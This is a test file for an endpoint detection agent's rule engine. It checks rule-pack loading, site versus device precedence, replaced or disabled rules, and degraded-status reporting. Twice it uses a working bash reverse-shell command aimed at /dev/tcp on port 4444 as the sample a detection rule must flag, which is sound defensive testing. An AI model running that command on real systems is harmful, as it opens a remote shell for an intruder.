import { packRules, type RulePack } from "@picket/protocol/rule-pack";
import { builtinRules } from "@picket/rules/builtin";
import { pack } from "@picket/rules/packed";
import type { Rule } from "@picket/rules/rule";
import { expect, test } from "vitest";
import { openLocalRules } from "./local-rules.ts";
import { createStamp } from "./stamp.ts";

const { match, use: packUse } = openLocalRules(true);
await packUse.load?.();
const exec = (exe: string, argv: string[]) =>
  createStamp("pi", "aaaaaaaa").event({
    type: "process.exec",
    timeMs: 1,
    body: { process: { pid: 9, startTicks: 9, ppid: 1, uid: 1000, exe, argv } },
  });

test("a shell that talks to /dev/tcp is a hit on the device, with the version of the rule", () => {
  const hits = match(exec("/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"]));
  expect(hits.length).toBeGreaterThan(0);
  for (const hit of hits) expect(hit).toEqual({ rule: expect.stringMatching(/./), version: expect.stringMatching(/./) });
});

test("ordinary work is no hit", () => {
  expect(match(exec("/usr/bin/ls", ["ls", "-l"]))).toEqual([]);
});

const shipped = builtinRules();
const bash = exec("/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"]);
const free = { cpuMs: () => 0, rssBytes: () => 0 };
const ofPack = (id: string, of: Partial<Rule> = {}): Rule => ({
  ...shipped[0]!,
  ...{ id, title: `Rule ${id}`, version: "7" },
  detection: { events: ["process.exec"], condition: { op: "constant", value: true } },
  ...of,
});
const payload = (rules: readonly Rule[], of: Partial<RulePack> = {}) =>
  packRules({ rules: rules.map(pack), disable: [], samples: [], ...of });
const versioned = (version: number, of: unknown) => ({ version, payload: of });
const none = { site: undefined, device: undefined };
const idsOf = (rules: ReturnType<typeof openLocalRules>, event = bash) => rules.match(event).map(({ rule }) => rule);

test("rules of packs match beside the shipped ones; what a device has for itself goes before what the site has", () => {
  const rules = openLocalRules(true, free);
  const before = idsOf(rules);
  expect(rules.capability()).toEqual([]);
  const site = versioned(3, payload([ofPack("a"), ofPack("b", { version: "site" })]));
  const device = versioned(1, payload([ofPack("b", { version: "own" })]));
  expect(rules.use.apply({ site, device })).toBe(`2 rules of packs beside ${shipped.length} shipped ones`);
  expect(rules.match(bash).filter(({ rule }) => rule === "a" || rule === "b")).toEqual([
    { rule: "a", version: "7" },
    { rule: "b", version: "own" },
  ]);
  expect(idsOf(rules)).toEqual([...before, "a", "b"]);
  expect(rules.capability()).toMatchObject([
    { name: "rules", level: "live", why: expect.stringMatching(/^version 3 of the site and version 1 of this device: 2 rules/) },
  ]);
  rules.use.apply(none);
  expect(idsOf(rules)).toEqual(before);
});

test("a shipped rule can be replaced, or switched off, which the device does not keep to itself", () => {
  const rules = openLocalRules(true, free);
  const [first] = idsOf(rules);
  const { title } = shipped.find(({ id }) => id === first)!;
  rules.use.apply({ ...none, site: versioned(1, payload([ofPack(first!)])) });
  expect(rules.match(bash).find(({ rule }) => rule === first)?.version).toBe("7");
  // Whoever may sign rules could replace all by what never matches.
  expect(rules.capability()).toMatchObject([{ level: "degraded", why: expect.stringContaining(`1 REPLACED here: "${title}"`) }]);
  rules.use.apply({ ...none, site: versioned(1, payload([shipped.find(({ id }) => id === first)!])) });
  expect(rules.capability()).toMatchObject([{ level: "live" }]);
  rules.use.apply({ ...none, site: versioned(2, payload([], { disable: [first!] })) });
  expect(idsOf(rules)).not.toContain(first);
  expect(rules.capability()).toMatchObject([{ level: "degraded", why: expect.stringContaining(`SWITCHED OFF here: "${title}"`) }]);
});

test("rules that do not stand the trial leave those that ran", () => {
  const rules = openLocalRules(true, free);
  rules.use.apply({ ...none, site: versioned(1, payload([ofPack("a")])) });
  const samples = [{ rule: "b", hit: false, event: bash }];
  expect(() => rules.use.apply({ ...none, site: versioned(2, payload([ofPack("b")], { samples })) })).toThrow(/rule b matches a sample/);
  expect(idsOf(rules)).toContain("a");
  expect(idsOf(rules)).not.toContain("b");
});

test("what cannot be put in force at a start is no secret: the shipped rules run, and the device says so", () => {
  const rules = openLocalRules(true, free);
  expect(() => rules.use.apply({ ...none, site: versioned(1, { format: 9 }) })).toThrow(/not a rule pack/);
  expect(idsOf(rules).length).toBeGreaterThan(0);
  expect(rules.capability()).toMatchObject([
    { name: "rules", level: "degraded", why: expect.stringContaining("only the shipped ones run") },
  ]);
});

test("where the configuration says that no rules run here, none do", () => {
  const rules = openLocalRules(false, free);
  expect(rules.use.apply({ ...none, site: versioned(1, payload([ofPack("a")])) })).toContain("keeps rules off");
  expect(rules.match(bash)).toEqual([]);
});
